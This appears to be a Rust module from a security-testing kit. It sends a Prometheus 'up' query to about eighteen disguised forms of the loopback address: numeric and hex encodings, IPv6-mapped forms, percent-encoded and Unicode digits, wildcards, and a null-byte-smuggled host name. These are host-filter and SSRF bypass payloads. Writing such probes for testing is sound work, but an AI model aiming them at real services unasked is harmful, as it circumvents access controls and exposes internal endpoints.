//! Writes the host as other numbers, other names and other scripts.

use crate::kit::{Attack, told};
use crate::message::Message;

pub(crate) const ATTACK: Attack = Attack::of_query(|order| {
    let (_, port) = order.other_port.split_once(':').unwrap_or_default();
    let hosts = [
        "localhost",
        "localhost.",
        "127.1",
        "2130706433",
        "0x7f000001",
        "0177.0.0.1",
        "127.0.0.1.",
        "[::1]",
        "[::ffff:127.0.0.1]",
        "[::ffff:7f00:1]",
        "[0:0:0:0:0:ffff:127.0.0.1]",
        "[::1%25lo]",
        "%31%32%37.0.0.1",
        "①②⑦.0.0.1",
        "0",
        "0.0.0.0",
        "*",
        "127.0.0.1\0.prometheus",
    ];
    told(hosts.map(|host| Message::get(format!("{host}:{port}"), "/api/v1/query?query=up").send()))
});
